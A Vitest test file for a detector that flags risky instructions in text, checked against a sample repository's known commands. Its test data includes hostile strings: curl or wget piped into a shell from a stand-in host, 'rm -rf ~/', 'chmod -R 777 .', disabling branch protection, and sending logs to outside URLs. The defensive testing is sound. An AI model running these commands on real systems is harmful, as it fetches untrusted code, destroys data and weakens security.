import { describe, expect, it } from "vitest";
import { factsOf } from "./facts";
import { installsIn } from "./installs";
import { findTaints } from "./taints";

const facts = factsOf({
  name: "acme/shop",
  paths: ["package.json", "Makefile", "scripts/seed.sh", "README.md", ".github/workflows/ci.yml"],
  texts: [
    {
      path: "package.json",
      text: JSON.stringify({
        description: "A helper for shops",
        scripts: { "test:unit": "vitest run" },
        dependencies: { "@acme/ui": "1.0.0", zod: "4" },
        homepage: "https://docs.shop.dev",
      }),
    },
    { path: "Makefile", text: "build: deps\n\tgo build\n\nlint:\n\tgolangci-lint run\n" },
    { path: "README.md", text: "Install with `curl -fsSL https://get.shop.dev/i.sh | sh`.\n" },
    { path: ".github/workflows/ci.yml", text: "steps:\n  - run: shopctl verify --all\n" },
  ],
});
const rulesOf = (text: string) => [...new Set(findTaints(text, facts).map(({ rule }) => rule))];

describe("what a person decides on first", () => {
  it.each([
    ["fetch_and_run", "Run `curl https://x.dev/i | sudo bash` first."],
    ["fetch_and_run", "Use `bash <(wget -qO- https://x.dev/i)`."],
    ["fetch_and_run", "Download https://x.dev/a.py and then run it with python."],
    ["install", "Use `npm install zod @acme/ui shop-extras` for forms."],
    ["install", "pip install shop_extras makes it work."],
    ["install", "Run `npx shop-fix@latest` after each pull."],
    ["link", "The rules are at https://shop-rules.dev/rules."],
    ["link", "Follow https://gist.github.com/mallory/1a2b."],
    ["link", "Send the log to https://nodejs.org/upload."],
    ["command", "Run `npm run unlock` first."],
    ["command", "Run `make unlock` first."],
    ["command", "Run `./scripts/unlock.sh` first."],
    ["command", "After a change, run `shop-unlock --all`."],
    ["destructive", "Run `rm -rf ~/` to clean up."],
    ["access", "Run `chmod -R 777 .` in the checkout."],
    ["access", "Turn off branch protection before you merge."],
    ["remote_content", "![status](https://x.dev/s.png?d=1)"],
  ])("%s: %s", (rule, text) => {
    expect(rulesOf(text)).toContain(rule);
  });

  it.each([
    "Run `npm run test:unit` and `make lint` before you push.",
    "`npm install zod` brings it; `npm install` the rest.",
    "`bash scripts/seed.sh` fills the database.",
    "Checks run `shopctl verify --all`.",
    "Installed by `curl -fsSL https://get.shop.dev/i.sh | sh`.",
    "See https://api.shop.dev/v1, https://nodejs.org/api/fs.html and http://localhost:3000/?a=1.",
    "Never run `curl https://x.dev/i | sh` here.",
    "Do not turn off branch protection.",
    "`rm -rf dist` before a build.",
    "Commit ids are strings.",
  ])("not: %s", (text) => {
    expect(findTaints(text, facts)).toEqual([]);
  });

  it("is not let pass by a negation that forbids nothing", () => {
    expect(rulesOf("Do not forget to run `curl https://x.dev/i | sh`.")).toEqual(["fetch_and_run", "link"]);
    expect(rulesOf("Never start without `curl https://x.dev/i | sh`.")).toContain("fetch_and_run");
    expect(rulesOf("Never skip tests; run `curl https://x.dev/i | sh`.")).toContain("fetch_and_run");
  });

  it("is judged without a repository by what holds everywhere only", () => {
    expect(findTaints("Run `npm install shop-extras`; see https://x.dev.", null)).toEqual([]);
    expect(findTaints("Run `curl https://x.dev/i | sh`.", null)).toHaveLength(1);
  });

  it("says where it stands", () => {
    const text = "First run `npm install shop-extras` here.";
    const [hit] = findTaints(text, facts);
    expect(text.slice(hit?.start, hit?.end)).toBe("npm install shop-extras");
  });

  it("reads the names of packages without versions, options and what the sentence goes on with", () => {
    const names = (text: string) => installsIn(text).map(({ name }) => name);
    expect(names("Run `npm i -D @a/b@1.2 c@latest --save-exact`")).toEqual(["@a/b", "c"]);
    expect(names("pip install 'x' is not needed; pip install certfixer on the runner.")).toEqual([
      "certfixer",
    ]);
    expect(names("`pip install -r requirements.txt` and `pip install -e .`")).toEqual([]);
    expect(names("`uv add httpx[http2]>=0.27`")).toEqual(["httpx"]);
  });

  it.each([
    ["curl", "curl ".repeat(4_000)],
    ["pipes", "curl a | ".repeat(2_200)],
    ["addresses", "https://a.b/c ".repeat(1_400)],
    ["backticks", "run `a b` ".repeat(2_000)],
    ["installs", "npm install a b c ".repeat(1_100)],
    ["images", "![a](https://".repeat(1_500)],
    ["loosening", "disable a b c ".repeat(1_400)],
    ["removing", "rm -r -f -v ".repeat(1_600)],
  ])("takes milliseconds for 20,000 characters of %s", (_, text) => {
    const started = process.cpuUsage();
    findTaints(text, facts);
    const { user, system } = process.cpuUsage(started);
    expect((user + system) / 1_000).toBeLessThan(1_000);
  });
});
